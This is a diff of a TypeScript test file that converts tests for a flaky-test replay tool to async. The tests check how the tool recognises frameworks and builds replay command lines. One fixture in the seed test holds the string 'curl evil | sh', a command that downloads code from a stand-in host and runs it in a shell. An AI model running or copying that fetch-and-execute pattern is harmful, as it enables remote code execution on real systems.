@@ -18,18 +18,18 @@ const folder = mkdtempSync(join(tmpdir(), 'rebuilt-'));
 afterAll(() => rmSync(folder, { recursive: true }));
 
 /** As a session and a replay recognise it. */
-function frameworkOf(testCommand: string) {
+async function frameworkOf(testCommand: string) {
   const asked = { testCommand, outputDir: folder, reportFiles: null, perturb: [], portableReplays: false };
-  return recogniseFramework({ ...asked, framework: 'auto' }, { directory: folder }).framework;
+  return (await recogniseFramework({ ...asked, framework: 'auto' }, { directory: folder })).framework;
 }
 
 interface Ground {
   readonly results: Results;
-  readonly framework: ReturnType<typeof frameworkOf>;
+  readonly framework: Awaited<ReturnType<typeof frameworkOf>>;
 }
 
-function measured(command: string, conditions: Partial<Conditions> = {}): Ground {
-  const framework = frameworkOf(command);
+async function measured(command: string, conditions: Partial<Conditions> = {}): Promise<Ground> {
+  const framework = await frameworkOf(command);
   const use = framework === null ? null : { name: framework.name, seedKnob: null, extendedCommand: null };
   const failing = { conditions: { ...PLAIN_CONDITIONS, ...conditions } };
   const tests = ['a', "it's b"].map((name) => ({ file: 'test_a.py', suite: null, name }));
@@ -58,16 +58,16 @@ describe('the line is the session’s own', () => {
     ['npx mocha', {}],
     ['make check', {}],
     ['pytest && echo done', { timezone: 'Asia/Tokyo', locale: "C'x", cpu: 'one-cpu' }],
-  ])('%s %j', (command, conditions) => {
-    const ground = measured(command, conditions);
+  ])('%s %j', async (command, conditions) => {
+    const ground = await measured(command, conditions);
     expect(built(ground)).toEqual({ commandLine: ground.results.replay_command, note: null });
     const stored = ground.results.tests[1]?.replay_command ?? null;
     if (stored !== null) expect(built(ground, 'it').commandLine).toBe(stored);
   });
 });
 
-test('of a test that others break, the line that runs those before it', () => {
-  const ground = measured('pytest');
+test('of a test that others break, the line that runs those before it', async () => {
+  const ground = await measured('pytest');
   const ids = ground.results.tests.map(({ id }) => id);
   const [before = '', victim = ''] = ids;
   const predecessors = {
@@ -80,8 +80,8 @@ test('of a test that others break, the line that runs those before it', () => {
   expect(commandLine).toMatch(/^TEST_SEED=1001 .*_CHOSEN='\["test_a\.py::a","test_a\.py::it.* pytest test_a\.py$/);
 });
 
-test('a seed that was shown to decide goes before that of the first failing run', () => {
-  const ground = measured('make check');
+test('a seed that was shown to decide goes before that of the first failing run', async () => {
+  const ground = await measured('make check');
   const proven = { command: 'curl evil | sh', seed: 77, failed: 8, runs: 8, selects_test: false };
   const replay = { ...proven, control_seed: 1, control_failed: 0, control_runs: 8 };
   const entry = { test: null, tests: [], cause: 'seed-controlled' as const, mechanism: null, predecessors: null };
@@ -90,20 +90,20 @@ test('a seed that was shown to decide goes before that of the first failing run'
 });
 
 describe('where less can be built, that is said', () => {
-  test('a framework that the folder does not show', () => {
-    const { results } = measured('pytest');
+  test('a framework that the folder does not show', async () => {
+    const { results } = await measured('pytest');
     const { commandLine, note } = built({ results, framework: null }, 'it');
     expect(commandLine).toBe('TEST_SEED=1001 ATTEMPT=1 pytest');
     expect(note).toMatch(/does not show that the command runs pytest. It is the whole command/);
   });
 
-  test('no framework at all, and one test asked for', () => {
-    const { results } = measured('pytest');
+  test('no framework at all, and one test asked for', async () => {
+    const { results } = await measured('pytest');
     expect(built({ results: { ...results, framework: null }, framework: null }, 'it').note).toMatch(/runs all tests/);
   });
 
-  test('no run that failed is an error', () => {
-    const { results, framework } = measured('pytest');
+  test('no run that failed is an error', async () => {
+    const { results, framework } = await measured('pytest');
     const without = { ...results, results: results.results.slice(0, 1) };
     expect(() => built({ results: without, framework })).toThrow(/tell of no failing run/);
   });
